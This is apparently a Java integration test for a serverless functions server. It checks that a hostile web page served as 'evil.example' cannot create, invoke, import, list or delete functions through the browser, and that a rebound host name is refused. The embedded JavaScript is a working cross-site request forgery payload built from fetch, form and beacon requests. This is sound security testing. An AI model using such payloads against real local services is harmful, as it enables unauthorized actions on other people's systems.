package dev.impuls.server;

import static dev.impuls.server.ApiClient.FUNCTIONS;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentSkipListSet;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** A page of somebody else, in a real browser on the machine of the server. */
class ForeignPageIT {
  private static final String EVIL = "evil.example";
  private static final int PATIENCE_SECONDS = 60;

  /**
   * Sends all that a page may send without asking to a server, and to one that records what comes;
   * then tells what it learned.
   */
  private static final String PAGE =
      """
      <!doctype html><title>evil</title><iframe name="frame"></iframe><script>
      const [server, recorder, draft] = GIVEN;
      const post = (to, path, body) => fetch(to + path, { method: 'POST', mode: 'no-cors', body });
      const form = (to, path, type) => {
        const form = document.createElement('form');
        Object.assign(form, { action: to + path, method: 'POST', enctype: type, target: 'frame' });
        form.innerHTML = '<input name=\\'{"a":"\\' value=\\'"}\\'>';
        document.body.append(form);
        form.submit();
        return new Promise((done) => { document.querySelector('iframe').onload = done; setTimeout(done, 3000); });
      };
      async function attack(to) {
        await post(to, '/api/v1/functions', new Blob([draft]));
        await post(to, '/api/v1/functions', draft);
        await post(to, '/api/v1/functions/victim/invoke');
        await post(to, '/api/v1/functions/victim/invoke', new Blob(['{}']));
        await post(to, '/api/v1/functions/victim/invoke', new URLSearchParams({ a: 1 }));
        await post(to, '/api/v1/import', new Blob(['{"functions":[' + draft + ']}']));
        navigator.sendBeacon(to + '/api/v1/functions/victim/invoke', new Blob(['{}']));
        await form(to, '/api/v1/functions/victim/invoke', 'text/plain');
        await form(to, '/api/v1/functions/victim/invoke', 'application/x-www-form-urlencoded');
      }
      async function readable(url, options) {
        try { return (await fetch(url, options)).status; } catch { return 'nothing'; }
      }
      onload = async () => {
        await attack(recorder);
        await attack(server);
        const learned = {
          list: await readable(server + '/api/v1/functions'),
          json: await readable(server + '/api/v1/functions', {
            method: 'POST', headers: { 'Content-Type': 'application/json' }, body: draft }),
          deleted: await readable(server + '/api/v1/functions/victim', { method: 'DELETE' }),
        };
        await fetch('/done', { method: 'POST', body: JSON.stringify(learned) });
      };
      </script>
      """;

  @TempDir private Path directory;

  private static Optional<Path> browser() {
    return Stream.of(System.getenv("PATH").split(":", -1))
        .flatMap(
            path ->
                Stream.of("chromium", "chromium-browser", "google-chrome")
                    .map(name -> Path.of(path, name)))
        .filter(Files::isExecutable)
        .findFirst();
  }

  /** Answers a page at /, takes what is posted to it; tells of each other request. */
  private static HttpServer site(
      String page, ConcurrentSkipListSet<String> seen, CompletableFuture<String> done)
      throws IOException {
    var site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    site.createContext(
        "/",
        exchange -> {
          try (exchange) {
            String path = exchange.getRequestURI().getPath();
            String body = new String(exchange.getRequestBody().readAllBytes(), UTF_8);
            if (path.equals("/done")) {
              done.complete(body);
            } else if (!path.equals("/")) {
              seen.add(
                  exchange.getRequestMethod()
                      + " "
                      + path
                      + " "
                      + exchange.getRequestHeaders().getFirst("Content-Type"));
            }
            answer(exchange, path.equals("/") ? page : "");
          }
        });
    site.start();
    return site;
  }

  private static void answer(HttpExchange exchange, String html) throws IOException {
    byte[] bytes = html.getBytes(UTF_8);
    exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
    exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
    exchange.getResponseBody().write(bytes);
  }

  /** Starts it; what it writes to its output goes to a file. */
  private Process open(Path browser, Path output, String... more) throws IOException {
    var command = new ArrayList<String>();
    command.add(browser.toString());
    command.addAll(
        List.of(
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--user-data-dir=" + directory.resolve("profile"),
            "--host-resolver-rules=MAP " + EVIL + " 127.0.0.1"));
    command.addAll(List.of(more));
    var builder =
        new ProcessBuilder(command)
            .redirectError(directory.resolve("browser.txt").toFile())
            .redirectOutput(output.toFile());
    builder.environment().put("TMPDIR", directory.toString());
    return builder.start();
  }

  @Test
  void changesRunsAndLearnsNothing() throws Exception {
    Optional<Path> browser = browser();
    assumeThat(browser).as("Chromium").isPresent();
    var sent = new ConcurrentSkipListSet<String>();
    var learned = new CompletableFuture<String>();
    HttpServer recorder = site("", sent, new CompletableFuture<>());
    try (var server =
            ServerProcess.start(
                directory, "--data-dir", "data", "--port", "0", "--isolation", "none");
        var client = new ApiClient(server.address())) {
      client.create("victim", "exports.handler = async () => 'ran'");
      String before = client.get(FUNCTIONS).body();
      var json = new JsonMapper();
      String page =
          PAGE.replace(
              "GIVEN",
              json.writeValueAsString(
                  List.of(
                      server.address(),
                      "http://127.0.0.1:" + recorder.getAddress().getPort(),
                      ApiClient.draft("planted", "1"))));
      HttpServer evil = site(page, new ConcurrentSkipListSet<>(), learned);
      Process process =
          open(
              browser.orElseThrow(),
              directory.resolve("output.txt"),
              "--remote-debugging-port=0", // Or it would load the page and end.
              "http://" + EVIL + ":" + evil.getAddress().getPort() + "/");
      try {
        JsonNode told = json.readTree(learned.get(PATIENCE_SECONDS, TimeUnit.SECONDS));
        assertThat(told.toString())
            .isEqualTo("{\"list\":\"nothing\",\"json\":\"nothing\",\"deleted\":\"nothing\"}");
      } finally {
        process.descendants().forEach(ProcessHandle::destroyForcibly);
        process.destroyForcibly().waitFor();
        evil.stop(0);
      }
      // So a browser does send all of these, and to this machine.
      assertThat(sent)
          .containsExactlyInAnyOrder(
              "POST /api/v1/functions null",
              "POST /api/v1/functions text/plain;charset=UTF-8",
              "POST /api/v1/functions/victim/invoke application/x-www-form-urlencoded",
              "POST /api/v1/functions/victim/invoke"
                  + " application/x-www-form-urlencoded;charset=UTF-8",
              "POST /api/v1/functions/victim/invoke null",
              "POST /api/v1/functions/victim/invoke text/plain",
              "POST /api/v1/import null");
      assertThat(client.get(FUNCTIONS).body()).isEqualTo(before);
      assertThat(client.get("/api/v1/statistics").json().at("/calls").asInt(-1)).isZero();
    } finally {
      recorder.stop(0);
    }
  }

  @Test
  void learnsNothingUnderANameThatWasMadeToLeadHere() throws Exception {
    Optional<Path> browser = browser();
    assumeThat(browser).as("Chromium").isPresent();
    try (var server =
            ServerProcess.start(
                directory, "--data-dir", "data", "--port", "0", "--isolation", "none");
        var client = new ApiClient(server.address())) {
      client.create("secret", "exports.handler = async () => 1");
      Path dom = directory.resolve("dom.txt");
      Process process =
          open(
              browser.orElseThrow(),
              dom,
              "--dump-dom",
              "http://" + EVIL + ":" + server.port() + FUNCTIONS);
      assertThat(process.waitFor(PATIENCE_SECONDS, TimeUnit.SECONDS)).isTrue();
      assertThat(dom).content().contains("misdirected_request").doesNotContain("secret");
    }
  }
}
